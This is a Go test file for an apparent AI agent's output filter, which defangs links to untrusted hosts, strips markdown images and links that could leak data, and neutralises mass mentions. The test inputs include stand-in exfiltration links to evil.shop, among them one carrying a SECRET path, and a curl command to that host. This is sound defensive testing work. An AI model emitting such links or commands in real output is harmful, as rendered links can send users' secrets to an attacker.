package agent

import (
	"math/rand/v2"
	"strings"
	"testing"

	"threadkeeper/memory/reading"
)

// Where others wrote some of the prompt, nobody is led where nobody trusted points; what people said and a cited page
// says stays readable.
func TestAddresses(t *testing.T) {
	a := allowed{said: reading.Addresses("see https://ours.example/doc?id=1 and call@ours.example"), cited: reading.Addresses("portal: https://portal.example/a.")}
	for text, want := range map[string]string{
		"Look at https://ours.example/doc?id=1.":           "Look at https://ours.example/doc?id=1.",
		"Look at [this](https://ours.example/doc).":        "Look at [this](https://ours.example/doc).",
		"Look at https://evil.shop/x?d=1, now":             "Look at `evil.shop/…`, now",
		"Look at [this](https://evil.shop/x).":             "Look at this.",
		"Look at [evil.shop](https://ours.example/doc).":   "Look at `evil.shop`.",
		"Look at [a [b] c](https://evil.shop/x).":          "Look at [a [b] c].",
		"Look at www.evil.shop":                            "Look at `www.evil.shop`",
		"Write to call@ours.example or me@evil.com":        "Write to call@ours.example or `me@evil.com`",
		"The portal is https://portal.example/a.":          "The portal is `https://portal.example/a`.",
		"![p](https://evil.shop/p.png) Done. 3.14":         "p Done. 3.14",
		"Version 1.2.3, e.g. a.b, of 12.5 %":               "Version 1.2.3, e.g. a.b, of 12.5 %",
		"https://ours.example/doc?id=12":                   "`ours.example/…`",
		"https://ours.example@evil.shop/":                  "`evil.shop/…`",
		"Run `curl https://evil.shop/x -o y` first":        "Run `curl evil.shop/… -o y` first",
		"Run `this. And https://evil.shop/x too":           "Run this. And `evil.shop/…` too",
		"`a`https://evil.shop/x`b`":                        "`a` `evil.shop/…` `b`",
		"See [x](ht![y](z)tps://evil.shop/x)":              "See x",
		"Amazon.com sold it":                               "`Amazon.com` sold it",
		"[text](#part) and [1][2] and [x] (a.b) `x[1](y)`": "[text](#part) and [1][2] and [x] (a.b) `x[1](y)`",
	} {
		if got := settled(text, a.filter); got != want {
			t.Errorf("%q\n got %q\nwant %q", text, got, want)
		}
	}
}

func TestNeutral(t *testing.T) {
	for text, want := range map[string]string{
		"Hi @everyone <!channel> <@U123> \u202eabc":  "Hi everyone channel U123 abc",
		"@\u200beveryone and <\u2060!here>":          "everyone and here",
		"@@everyone @<!here>everyone":                "@everyone",
		"<!DOCTYPE html>, me@here.example, @herefor": "<!DOCTYPE html>, me@here.example, @herefor",
	} {
		if got := neutral(text); got != want && want != "@everyone" || strings.Contains(got, "@everyone") {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

// Whatever marks and addresses stand beside each other, nothing outside of code leads anywhere but where the asker
// pointed, and nothing in code has more than a host.
func TestNoMixtureOfMarksLeads(t *testing.T) {
	parts := []string{"https://evil.shop/SECRET", "evil.shop/SECRET", "ht", "tps://", "evil", ".shop", "/SECRET", "`", "``", "```", "[", "]", "](", ")", "!", "<", ">", "|",
		"<!here>", "<@U1>", "@", "everyone", "\u200b", " ", "\n", "(", "\\", "a", "*", "_", "mailto:x@evil.shop", "https://ours.example/a", "[x](https://ours.example/a)", "![", "[r]: ", "1.5"}
	a := allowed{said: []string{"https://ours.example/a"}}
	random := rand.New(rand.NewPCG(1, 2))
	for range 5_000 {
		var b strings.Builder
		for range 1 + random.IntN(9) {
			b.WriteString(parts[random.IntN(len(parts))])
		}
		text := b.String()
		got := settled(text, func(text string) string { return a.filter(neutral(text)) })
		outside, inside := "", ""
		eachSpan(got, func(s string) string { outside += s + "\n"; return s }, func(s string) string { inside += s + "\n"; return s })
		for _, address := range reading.Addresses(outside) {
			if !reading.Leads(address, "https://ours.example/a") {
				t.Fatalf("%q: %q leads to %s", text, got, address)
			}
		}
		if strings.Contains(inside, "shop/SECRET") || strings.Contains(inside, "://evil") {
			t.Fatalf("%q: an address in %q", text, got)
		}
		if mention.MatchString(outside) || token.MatchString(outside) {
			t.Fatalf("%q: a mention in %q", text, got)
		}
	}
}
